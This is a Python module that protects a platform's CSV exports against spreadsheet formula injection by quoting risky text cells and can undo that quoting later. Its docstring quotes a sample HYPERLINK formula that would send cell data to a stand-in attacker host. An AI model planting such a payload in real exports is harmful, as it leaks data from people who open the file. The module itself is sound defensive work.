"""Spreadsheet formulas in exported text (CSV injection): every CSV the platform writes for people
passes through :func:`neutralise_formulas` (the API's CSV export, the quarantine export of the CLI and
the dashboard).

A citizen's complaint can hold ``=HYPERLINK("http://evil.example/?d="&A2,"详情")``; a spreadsheet
opening the export would run it. Following OWASP's guidance on CSV injection, a text cell whose first
character is ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``: spreadsheets
show it as text. Two exceptions keep data intact:

- cells of numeric columns are never touched (a spreadsheet reads them as numbers, which run nothing);
- a text cell that is a plain decimal number (``-12.5``, ``+8613800138000``, ``1e-5``) is left alone
  for the same reason: quarantine exports are all text, and a delivered longitude stays a number.
  A phone written with spaces (``+86 138 0013 8000``) is no plain number and is quoted.

A cell that already starts with quotes before such a character (``'=1+1``) gets one more, so that
:func:`restore_formulas` can give every fixed quarantine export back exactly as it was delivered.
JSON, Parquet and Arrow are not spreadsheets: they carry values as they are.
"""

from __future__ import annotations

from typing import TypeVar

import polars as pl
import pyarrow as pa
import pyarrow.compute as pc

FORMULA_START = "=+-@\t\r"
"""First characters that make a spreadsheet evaluate a cell (OWASP, CSV injection)."""

_STARTS = "[" + FORMULA_START.replace("-", r"\-") + "]"
_FORMULA = "^'*" + _STARTS
_PLAIN_NUMBER = r"^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$"
_QUOTE_ADDED = "^'('*" + _STARTS + ")"

Tabular = TypeVar("Tabular", pa.Table, pa.RecordBatch)


def _is_text(kind: pa.DataType) -> bool:
    if pa.types.is_dictionary(kind):
        kind = kind.value_type
    return pa.types.is_string(kind) or pa.types.is_large_string(kind) or pa.types.is_string_view(kind)


def _neutralised(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    if pa.types.is_dictionary(column.type):  # coded text: written out as its values
        column = column.cast(column.type.value_type)
    kind = column.type
    text = column.cast(pa.large_string()) if pa.types.is_string_view(kind) else column  # no kernels
    formula = pc.match_substring_regex(text, _FORMULA)
    if not pc.any(formula).as_py():
        return column
    risky = pc.and_(formula, pc.invert(pc.match_substring_regex(text, _PLAIN_NUMBER)))
    quoted = pc.replace_substring_regex(text, pattern="^", replacement="'", max_replacements=1)
    return pc.if_else(risky, quoted, text).cast(kind)


def neutralise_formulas(table: Tabular) -> Tabular:
    """``table`` with every text cell that a spreadsheet would run as a formula prefixed with ``'``
    (see the module docstring); other columns as they are. Dictionary-encoded text comes out decoded."""
    columns = [_neutralised(c) if _is_text(c.type) else c for c in table.columns]
    return type(table).from_arrays(columns, names=table.schema.names)


def restore_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` (text read back from an export) with the quote :func:`neutralise_formulas` added removed."""
    return frame.with_columns(pl.col(pl.String).str.replace(_QUOTE_ADDED, "$1"))
